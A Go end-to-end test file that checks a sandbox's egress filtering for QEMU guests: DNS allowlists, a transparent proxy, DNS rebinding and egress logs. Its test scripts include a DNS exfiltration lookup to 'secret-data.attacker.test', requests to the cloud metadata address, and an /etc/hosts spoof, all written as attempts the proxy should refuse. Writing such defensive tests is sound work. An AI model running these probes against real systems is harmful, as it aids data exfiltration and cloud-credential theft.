package e2e

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/engrams/engrams/api/apiv1"
	"github.com/engrams/engrams/client"
	"github.com/engrams/engrams/internal/coordinator"
	"github.com/engrams/engrams/internal/testutil"
)

// fakeAuthority is the DNS server a host resolves guests' names with
// (host run --egress-dns): it answers the names in addrs and counts every
// question it is asked.
type fakeAuthority struct {
	addrs map[string]string   // fqdn -> IPv4
	cycle map[string][]string // fqdn -> IPv4s answered in turn, one per A question
	mu    sync.Mutex
	asked []string
	turn  map[string]int
}

func (a *fakeAuthority) ServeDNS(w dns.ResponseWriter, r *dns.Msg) {
	m := new(dns.Msg)
	m.SetReply(r)
	m.Authoritative = true
	for _, q := range r.Question {
		a.mu.Lock()
		a.asked = append(a.asked, q.Name)
		ip, ok := a.addrs[q.Name]
		if c := a.cycle[q.Name]; len(c) > 0 && q.Qtype == dns.TypeA {
			ip, ok = c[a.turn[q.Name]%len(c)], true
			a.turn[q.Name]++
		}
		a.mu.Unlock()
		if ok && q.Qtype == dns.TypeA {
			m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 0}, A: net.ParseIP(ip)})
		}
	}
	if len(m.Answer) == 0 && r.Question[0].Qtype == dns.TypeA {
		m.Rcode = dns.RcodeNameError
	}
	_ = w.WriteMsg(m)
}

func (a *fakeAuthority) askedAbout(suffix string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	n := 0
	for _, q := range a.asked {
		if strings.HasSuffix(q, suffix) {
			n++
		}
	}
	return n
}

func startAuthority(t *testing.T, addrs map[string]string) (*fakeAuthority, string) {
	t.Helper()
	// flip.test rebinds (TTL 0): every fourth answer is 10.0.0.5 or the
	// metadata address, the others loopback. A request asks twice (the
	// guest's lookup, then the proxy's own), so every other request is
	// answered loopback for the guest and a private address for the proxy.
	a := &fakeAuthority{addrs: addrs, turn: map[string]int{}, cycle: map[string][]string{
		"flip.test.": {"127.0.0.1", "127.0.0.1", "127.0.0.1", "10.0.0.5", "127.0.0.1", "127.0.0.1", "127.0.0.1", "169.254.169.254"}}}
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &dns.Server{PacketConn: pc, Handler: a}
	go func() { _ = srv.ActivateAndServe() }()
	t.Cleanup(func() { _ = srv.Shutdown() })
	return a, pc.LocalAddr().String()
}

// egressRig is a coordinator and a QEMU host whose guests' names resolve
// through auth, with one test upstream on loopback the operator allowed.
type egressRig struct {
	c       *client.Client
	url     string // the replica's
	token   string // the user's
	auth    *fakeAuthority
	port    string // the upstream's
	tlsPort string // the HTTPS upstream's (secure.test, a certificate from ca)
	ca      *testutil.CA
	dir     string // the host's
	probe   string // netget, built
	host    *hostProc
	restart func(t *testing.T) *hostProc // starts the host agent again, as it was
}

func startEgressRig(t *testing.T) *egressRig {
	t.Helper()
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello from %s%s\n", r.Host, r.URL.Path)
	}))
	t.Cleanup(upstream.Close)
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(upstream.URL, "http://"))
	ca := testutil.NewCA(t)
	secure := ca.TLSServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "secure hello from %s%s\n", r.Host, r.URL.Path)
	}), "secure.test")
	_, tlsPort, _ := net.SplitHostPort(secure.Listener.Addr().String())
	auth, authAddr := startAuthority(t, map[string]string{
		"allowed.test.": "127.0.0.1", "other.test.": "127.0.0.1", "private.test.": "10.0.0.5", "meta.test.": "169.254.169.254",
		"secure.test.": "127.0.0.1",
	})
	st := openSQLite(t)
	creds := credentials(t, st, "egress-host")
	r := startReplica(t, st, "", coordinator.Config{HeartbeatInterval: 500 * time.Millisecond, HostLostAfter: 30 * time.Second})
	dir := shortTempDir(t)
	// The operator lets guests reach the test upstream's one loopback
	// port; every other loopback and private address stays refused.
	start := func(t *testing.T) *hostProc {
		return startHostProcess(t, r.URL, creds.HostToken, dir, "--backend", "qemu", "--egress-dns", authAddr, "--egress-allow", "127.0.0.1:"+port,
			"--egress-allow", "127.0.0.1:"+tlsPort)
	}
	h := start(t)
	c := newClient(r.URL, creds.Token)
	waitHostReady(t, c, creds.HostID)
	t.Cleanup(func() {
		for _, pid := range vmmPIDs(dir) {
			_ = exec.Command("kill", "-9", fmt.Sprint(pid)).Run()
		}
	})
	return &egressRig{c: c, url: r.URL, token: creds.Token, auth: auth, port: port, tlsPort: tlsPort, ca: ca, dir: dir, probe: buildTestdata(t, "netget"), host: h, restart: start}
}

// session creates an active session with egress and netget in /tmp.
func (k *egressRig) session(t *testing.T, egress []string) string {
	t.Helper()
	ctx := context.Background()
	s, err := k.c.Sessions().Create(ctx, apiv1.CreateSessionRequest{SessionSpec: apiv1.SessionSpec{MemoryMiB: 256, Egress: egress}}, true)
	if err != nil || s.State != "active" {
		t.Fatalf("create: %+v %v (host log %s)", s, err, hostLog(k.dir))
	}
	f, err := os.Open(k.probe)
	if err != nil {
		t.Fatal(err)
	}
	if err := k.c.Files().Put(ctx, s.ID, "/tmp/netget", 0o755, f); err != nil {
		t.Fatalf("upload netget: %v", err)
	}
	return s.ID
}

// run runs script in session id, returning its output and exit code.
func (k *egressRig) run(t *testing.T, id, script string) (string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	code, err := k.c.Sessions().Exec(context.Background(), id, apiv1.ExecRequest{Argv: []string{"sh", "-c", script}, TimeoutMS: 60000}, &out, &errb)
	if err != nil {
		t.Fatalf("exec %q: %v", script, err)
	}
	return out.String() + errb.String(), code
}

// TestEgressFromQEMUGuest (issue 14): a session whose allowlist names
// allowed.test reaches it over plain HTTP from inside a QEMU guest,
// through the filtering resolver and the transparent proxy; a name off the
// list, an allowed name that resolves to a private or the metadata
// address, private ranges, the host's gateway, IPv6, SSH, QUIC and ICMP
// all fail; an exfiltration name gets NXDOMAIN and never reaches the
// authority; a spoofed /etc/hosts changes nothing; every decision is in
// the session's egress log. Once the session is deleted, the next one on
// the host has only its own policy. A session without an allowlist has no
// network.
func TestEgressFromQEMUGuest(t *testing.T) {
	t.Parallel()
	requireQEMU(t)
	k := startEgressRig(t)
	port := k.port
	id := k.session(t, []string{"allowed.test:" + port, "private.test:" + port, "meta.test:80", "secure.test:" + k.tlsPort, "flip.test:" + port})
	if out, code := k.run(t, id, "/tmp/netget http http://allowed.test:"+port+"/hi"); code != 0 || !strings.Contains(out, "hello from allowed.test:"+port+"/hi") {
		t.Errorf("allowed host over HTTP: exit %d, %q (host log %s)", code, out, hostLog(k.dir))
	}
	// HTTPS passes through by SNI: the guest verifies the upstream itself
	// (it trusts the test CA here; the proxy adds nothing).
	if err := k.c.Files().Put(context.Background(), id, "/tmp/ca.pem", 0o644, bytes.NewReader(k.ca.PEM())); err != nil {
		t.Fatalf("upload the test CA: %v", err)
	}
	secure := "https://secure.test:" + k.tlsPort + "/s"
	if out, code := k.run(t, id, "SSL_CERT_FILE=/tmp/ca.pem /tmp/netget http "+secure); code != 0 || !strings.Contains(out, "secure hello from secure.test:"+k.tlsPort+"/s") {
		t.Errorf("allowed host over HTTPS: exit %d, %q", code, out)
	}
	if out, code := k.run(t, id, "/tmp/netget http "+secure); code != 1 || !strings.Contains(out, "certificate") {
		t.Errorf("HTTPS without trusting the upstream's CA: exit %d, %q; want the guest's own verification to fail", code, out)
	}
	for _, rf := range []struct{ name, script string }{
		{"a name off the list", "/tmp/netget http http://other.test:" + port + "/"},
		{"an allowed name at a private address", "/tmp/netget http http://private.test:" + port + "/"},
		{"an allowed name at the metadata address", "/tmp/netget http http://meta.test/"},
		{"the metadata address itself", "/tmp/netget http http://169.254.169.254/"},
		{"the test upstream by its address", "/tmp/netget http http://127.0.0.1:" + port + "/"},
		{"the host gateway's address", "/tmp/netget http http://10.0.2.2:" + port + "/"},
		{"10/8", "/tmp/netget http http://10.1.2.3/"},
		{"172.16/12", "/tmp/netget http http://172.16.0.1/"},
		{"192.168/16", "/tmp/netget http http://192.168.1.1/"},
		{"100.64/10", "/tmp/netget http http://100.64.0.1/"},
		{"IPv6", "/tmp/netget tcp [2001:db8::1]:443"},
		{"SSH to an allowed name", "/tmp/netget tcp allowed.test:22"},
		{"QUIC to an allowed address", "/tmp/netget udp 127.0.0.1:443"},
		{"ICMP", "ping -c 1 -W 3 1.1.1.1"},
	} {
		if out, code := k.run(t, id, rf.script); code != 1 || strings.Contains(out, "hello from") {
			t.Errorf("%s: exit %d, %q; want a failure", rf.name, code, out)
		}
	}
	if out, _ := k.run(t, id, "nslookup secret-data.attacker.test"); !strings.Contains(out, "NXDOMAIN") && !strings.Contains(out, "can't resolve") {
		t.Errorf("nslookup of an exfiltration name: %q, want NXDOMAIN", out)
	}
	if n := k.auth.askedAbout("attacker.test."); n != 0 {
		t.Errorf("the authority was asked %d times about attacker.test", n)
	}
	// A spoofed /etc/hosts changes nothing: whatever address the guest
	// dials, the proxy dials the name the request carries.
	if out, code := k.run(t, id, "echo '10.9.9.9 allowed.test' >> /etc/hosts && /tmp/netget http http://allowed.test:"+port+"/spoofed"); code != 0 ||
		!strings.Contains(out, "hello from allowed.test:"+port+"/spoofed") {
		t.Errorf("allowed host with a spoofed /etc/hosts: exit %d, %q", code, out)
	}
	k.rebinding(t, id)
	k.waitEgressLog(t, id)

	// Session A (the broad policy) is destroyed; B, on the same host with
	// the guest address every machine has, has only its own policy from its
	// first connection.
	if err := k.c.Sessions().Delete(context.Background(), id, true); err != nil {
		t.Fatalf("delete session A: %v", err)
	}
	b := k.session(t, []string{"other.test:" + port})
	if out, code := k.run(t, b, "/tmp/netget http http://allowed.test:"+port+"/"); code != 1 || strings.Contains(out, "hello from") {
		t.Errorf("session B reached A's host: exit %d, %q", code, out)
	}
	if out, code := k.run(t, b, "/tmp/netget http http://other.test:"+port+"/b"); code != 0 || !strings.Contains(out, "hello from other.test:"+port+"/b") {
		t.Errorf("session B's own host: exit %d, %q", code, out)
	}

	none := k.session(t, nil)
	if out, code := k.run(t, none, "/tmp/netget http http://allowed.test:"+port+"/"); code == 0 || strings.Contains(out, "hello") {
		t.Errorf("a session without egress reached the upstream: exit %d %q", code, out)
	}
}

// rebinding: flip.test's answers change on every question (see
// startAuthority); the proxy dials it only when its own answer is the
// allowed one, and refuses it, naming the address, otherwise.
func (k *egressRig) rebinding(t *testing.T, id string) {
	t.Helper()
	ok, failed := 0, 0
	for i := range 6 {
		out, code := k.run(t, id, fmt.Sprintf("/tmp/netget http http://flip.test:%s/flip%d", k.port, i))
		switch {
		case code == 0 && strings.Contains(out, fmt.Sprintf("hello from flip.test:%s/flip%d", k.port, i)):
			ok++
		case code == 1 && !strings.Contains(out, "hello"):
			failed++
		default:
			t.Errorf("flip.test request %d: exit %d, %q", i, code, out)
		}
	}
	if ok == 0 || failed == 0 {
		t.Errorf("flip.test: %d requests through, %d refused; want both (the answers rebind)", ok, failed)
	}
	eventually(t, 30*time.Second, "flip.test's refusals name the address refused", func() (bool, string) {
		l, err := k.c.Sessions().Egress(context.Background(), id, client.EgressQuery{Limit: 200})
		if err != nil {
			return false, err.Error()
		}
		var denied int
		var seen []string
		for _, e := range l.Events {
			if e.Host != "flip.test" {
				continue
			}
			seen = append(seen, e.Verdict+" "+e.Reason)
			if e.Verdict == "deny" && (strings.Contains(e.Reason, "10.0.0.5") || strings.Contains(e.Reason, "169.254.169.254")) {
				denied++
			}
		}
		return denied >= failed, strings.Join(seen, "\n")
	})
}

// TestEgressSurvivesHostAgentRestart: the host agent is killed while a
// session with an allowlist runs; the restarted agent adopts the machine
// and rejoins its network namespace (the QEMU process still holds its
// TAP), serving the session's policy there again: the allowed host
// answers, a name off the list is still refused, and the new agent's
// events reach the session's log.
func TestEgressSurvivesHostAgentRestart(t *testing.T) {
	t.Parallel()
	requireQEMU(t)
	k := startEgressRig(t)
	id := k.session(t, []string{"allowed.test:" + k.port})
	get := "/tmp/netget http http://allowed.test:" + k.port + "/"
	if out, code := k.run(t, id, get+"before"); code != 0 || !strings.Contains(out, "hello from allowed.test:"+k.port+"/before") {
		t.Fatalf("before the restart: exit %d, %q", code, out)
	}
	k.waitAllowed(t, id, 1)
	vms := vmmPIDs(k.dir)
	k.host.kill()
	k.host = k.restart(t)
	eventually(t, 60*time.Second, "exec through the restarted host agent", func() (bool, string) {
		out, code := k.run2(id, "true")
		return code == 0, out
	})
	if got := vmmPIDs(k.dir); len(got) != 1 || len(vms) != 1 || got[0] != vms[0] {
		t.Fatalf("want the same QEMU %v after the restart, found %v", vms, got)
	}
	if out, code := k.run(t, id, get+"after"); code != 0 || !strings.Contains(out, "hello from allowed.test:"+k.port+"/after") {
		t.Errorf("after the restart: exit %d, %q (host log %s)", code, out, hostLog(k.dir))
	}
	if out, code := k.run(t, id, "/tmp/netget http http://other.test:"+k.port+"/"); code != 1 || strings.Contains(out, "hello from") {
		t.Errorf("a name off the list after the restart: exit %d, %q", code, out)
	}
	k.waitAllowed(t, id, 2)
}

// run2 is run without failing the test when the exec itself fails (the
// agent is down): the output (or the error) and the exit code (-1).
func (k *egressRig) run2(id, script string) (string, int) {
	var out bytes.Buffer
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	code, err := k.c.Sessions().Exec(ctx, id, apiv1.ExecRequest{Argv: []string{"sh", "-c", script}, TimeoutMS: 15000}, &out, &out)
	if err != nil {
		return err.Error(), -1
	}
	return out.String(), code
}

// waitAllowed waits until session id's egress log has n allowed
// connections to allowed.test that carried bytes.
func (k *egressRig) waitAllowed(t *testing.T, id string, n int) {
	t.Helper()
	eventually(t, 30*time.Second, fmt.Sprintf("%d allowed connections in the egress log", n), func() (bool, string) {
		l, err := k.c.Sessions().Egress(context.Background(), id, client.EgressQuery{Limit: 200})
		if err != nil {
			return false, err.Error()
		}
		got := 0
		for _, e := range l.Events {
			if e.Host == "allowed.test" && e.Verdict == "allow" && e.BytesDown > 0 {
				got++
			}
		}
		return got >= n, fmt.Sprintf("%+v", l.Events)
	})
}

// waitEgressLog waits until session id's egress log has the allowed
// connection (with bytes) and the refused name.
func (k *egressRig) waitEgressLog(t *testing.T, id string) {
	t.Helper()
	eventually(t, 30*time.Second, "egress events reach the coordinator", func() (bool, string) {
		l, err := k.c.Sessions().Egress(context.Background(), id, client.EgressQuery{Limit: 200})
		if err != nil {
			return false, err.Error()
		}
		var allowed, denied bool
		for _, e := range l.Events {
			allowed = allowed || (e.Host == "allowed.test" && e.Verdict == "allow" && e.BytesDown > 0)
			denied = denied || (e.Host == "other.test" && e.Verdict == "deny")
		}
		return allowed && denied, fmt.Sprintf("%+v", l.Events)
	})
}
